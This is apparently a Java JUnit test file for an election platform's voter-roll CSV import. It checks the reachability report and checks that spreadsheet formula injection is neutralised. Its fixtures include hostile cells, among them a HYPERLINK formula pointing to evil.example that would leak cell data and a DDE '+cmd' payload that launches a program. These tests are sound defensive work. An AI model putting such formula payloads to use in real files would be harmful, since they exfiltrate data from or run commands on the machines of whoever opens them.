package fr.sesame.gateway.http;

import static fr.sesame.gateway.support.TestGateway.ADMIN;
import static org.assertj.core.api.Assertions.assertThat;

import fr.sesame.gateway.support.TestGateway;
import fr.sesame.testkit.Http;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.io.InputStream;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * What the import's report tells the organiser beyond counts: the voters no channel of their college reaches
 * from the roll, and never a cell a spreadsheet would run as a formula.
 */
class RollImportReportTest {
  static final String HEADER = "identifier,college,lastName,firstName,birthDate,email,phone,secret";
  @RegisterExtension
  static final TestGateway gw = new TestGateway();

  private static String openElection() {
    String el = TestGateway.newElectionId();
    gw.http.put("/v1/admin/elections/" + el, ADMIN, TestGateway.electionBody(
        gw.clock.instant().minus(Duration.ofDays(1)), gw.clock.instant().plus(Duration.ofDays(1))));
    return el;
  }

  private static Http.Res importFile(String el, String name) throws IOException {
    try (InputStream in = RollImportReportTest.class.getResourceAsStream("/rolls/" + name)) {
      assertThat(in).as(name).isNotNull();
      return gw.http.postRaw("/v1/admin/elections/" + el + "/voters", ADMIN, "text/csv", in.readAllBytes());
    }
  }

  /**
   * The election's colleges: etudiants (sms, email), personnels (sms, voice, email), externes (email). A voter
   * with no contact for any of them is imported and listed; one in a college with SMS or voice may still give
   * a phone at login.
   */
  @Test
  void listsImportedVotersNoChannelOfTheirCollegeReaches() throws IOException {
    String el = openElection();
    Http.Res r = importFile(el, "unreachable-voters.csv");
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    JsonObject report = r.json();
    assertThat(report.getLong("imported")).isEqualTo(5);
    assertThat(report.getLong("rejected")).isEqualTo(1);
    assertThat(report.getLong("unreachableCount")).isEqualTo(3);
    assertThat(report.getBoolean("unreachableTruncated")).isFalse();
    Map<Long, JsonObject> byLine = report.getJsonArray("unreachable").stream().map(o -> (JsonObject) o)
        .collect(Collectors.toMap(o -> o.getLong("line"), o -> o));
    assertThat(byLine).containsOnlyKeys(4L, 5L, 7L);
    assertThat(byLine.get(4L)).isEqualTo(new JsonObject().put("line", 4).put("identifier", "n1")
        .put("phoneAtLogin", false));
    assertThat(byLine.get(5L)).isEqualTo(new JsonObject().put("line", 5).put("identifier", "n2")
        .put("phoneAtLogin", true));
    assertThat(byLine.get(7L).getString("identifier")).isEqualTo("n3");
    // identifiers only: no phone, email or name of the roll
    assertThat(r.body()).doesNotContain("+3361234567", "univ-test.fr", "1991-06-15");

    // imported all the same: n1 has no email (its college's only channel), n2 gets a code once he gives a phone
    assertThat(gw.login(el, "n1", "1991-06-15", "email").status()).isEqualTo(422);
    assertThat(gw.login(el, "n2", "20230002", "sms").status()).isEqualTo(422);
    assertThat(gw.http.post("/v1/elections/" + el + "/login", new JsonObject().put("identifier", "n2")
        .put("secret", "20230002").put("channel", "sms").put("phone", "+33611223344")).status()).isEqualTo(200);
    assertThat(gw.login(el, "r1", "20230001", "sms").status()).isEqualTo(200);
  }

  @Test
  void listsTheFirstThousandUnreachableVotersAndCountsThemAll() {
    String el = openElection();
    StringBuilder csv = new StringBuilder(HEADER).append('\n');
    for (int i = 0; i < 1_200; i++) {
      csv.append("v").append(i).append(",externes,N,P,1990-06-15,,,\n");
    }
    JsonObject report = gw.importRoll(el, csv.toString()).json();
    assertThat(report.getLong("imported")).isEqualTo(1_200);
    assertThat(report.getLong("unreachableCount")).isEqualTo(1_200);
    assertThat(report.getJsonArray("unreachable")).hasSize(1_000);
    assertThat(report.getJsonArray("unreachable").getJsonObject(999).getLong("line")).isEqualTo(1_001);
    assertThat(report.getBoolean("unreachableTruncated")).isTrue();
  }

  /**
   * CSV (formula) injection: the report echoes two kinds of cells, an unknown college in its rejection and the
   * identifiers of unreachable voters. A value beginning with = + - @ gets a leading ' (a spreadsheet shows it as
   * text); nothing else of the report begins so. Names are never echoed.
   */
  @Test
  void echoesNoCellASpreadsheetWouldRunAsAFormula() throws IOException {
    String el = openElection();
    Http.Res r = importFile(el, "formula-cells.csv");
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    JsonObject report = r.json();
    assertThat(strings(report)).isNotEmpty().allSatisfy(s -> assertThat(s).doesNotStartWith("=")
        .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")
        .doesNotStartWith("\r"));
    JsonArray rejections = report.getJsonArray("rejections");
    assertThat(rejections.getJsonObject(0).getString("reason"))
        .startsWith("unknown college ''=HYPERLINK(\"http://evil.example/?\"&A1");
    assertThat(rejections.getJsonObject(1).getString("reason")).isEqualTo("unknown college ''+cmd|' /C calc'!A0'");
    assertThat(report.getJsonArray("unreachable").stream().map(o -> ((JsonObject) o).getString("identifier")))
        .containsExactly("'-2+3", "'+33612345678", "'@SUM", "f2");
    assertThat(r.body()).doesNotContain("=1+1");
    // the voters are on the roll under their own identifiers
    assertThat(gw.status(el, "-2+3").status()).isEqualTo(200);
    assertThat(gw.status(el, "@SUM").status()).isEqualTo(200);
  }

  /** Issue 15, point 9: the émargement list (CSV) neutralises what came from the roll, as the report does. */
  @Test
  void theEmargementListRunsNoFormulaFromTheRoll() {
    String el = openElection();
    String roll = HEADER + "\n"
        + "g1,externes,=1+1,-1,1990-06-15,g1@univ-test.fr,,\n"
        + "@g2,externes,\"=HYPERLINK(\"\"http://evil.example\"\")\",+A,1990-06-15,g2@univ-test.fr,,\n";
    assertThat(gw.http.postRaw("/v1/admin/elections/" + el + "/voters", ADMIN, "text/csv", roll.getBytes(
        java.nio.charset.StandardCharsets.UTF_8)).status()).isEqualTo(200);
    for (String[] v : new String[][] {{"g1", "g1@univ-test.fr"}, {"@g2", "g2@univ-test.fr"}}) {
      String token = gw.fullLogin(el, v[0], "15/06/1990", "email", v[1]);
      assertThat(gw.http.post("/v1/elections/" + el + "/emargements", TestGateway.PLATFORM,
          new JsonObject().put("sessionToken", token)).status()).isEqualTo(201);
    }
    String csv = gw.http.get("/v1/elections/" + el + "/emargements", ADMIN).body();
    assertThat(csv).contains("g1,'=1+1,'-1,externes,", "'@g2,\"'=HYPERLINK(\"\"http://evil.example\"\")\",'+A,externes,");
    assertThat(csv.lines().skip(1).flatMap(l -> java.util.Arrays.stream(l.split(","))))
        .noneMatch(cell -> cell.matches("^\"?[=+\\-@].*"));
  }

  private static List<String> strings(Object json) {
    List<String> out = new ArrayList<>();
    if (json instanceof JsonObject o) {
      o.forEach(e -> out.addAll(strings(e.getValue())));
    } else if (json instanceof JsonArray a) {
      a.forEach(v -> out.addAll(strings(v)));
    } else if (json instanceof String s) {
      out.add(s);
    }
    return out;
  }
}
